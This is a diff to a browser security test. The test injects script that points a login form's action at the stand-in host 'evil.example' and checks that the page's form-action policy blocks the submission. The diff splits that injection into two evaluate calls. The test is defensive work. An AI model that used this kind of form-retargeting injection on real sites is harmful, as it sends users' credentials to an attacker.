@@ -114,6 +114,7 @@ def test_a_form_sent_twice_at_once_signs_in_once(house, account, scripted):
 def test_a_form_bent_to_another_site_is_not_sent(house, account, scripted):
     at_sign_in(house, scripted)
     scripted.fill(username=account.email, password=PASSWORD)
-    scripted.ask("evaluate", script="(() => { document.getElementById('main').action = 'https://evil.example/'; document.getElementById('submit').click(); })()")
+    scripted.ask("evaluate", script="document.getElementById('main').action = 'https://evil.example/'")
+    scripted.ask("evaluate", script="document.getElementById('submit').click()")
     (said,) = wait_for("the browser to complain", scripted.wrong)
     assert "form-action" in said and "/login" in scripted.ask("state")["url"]
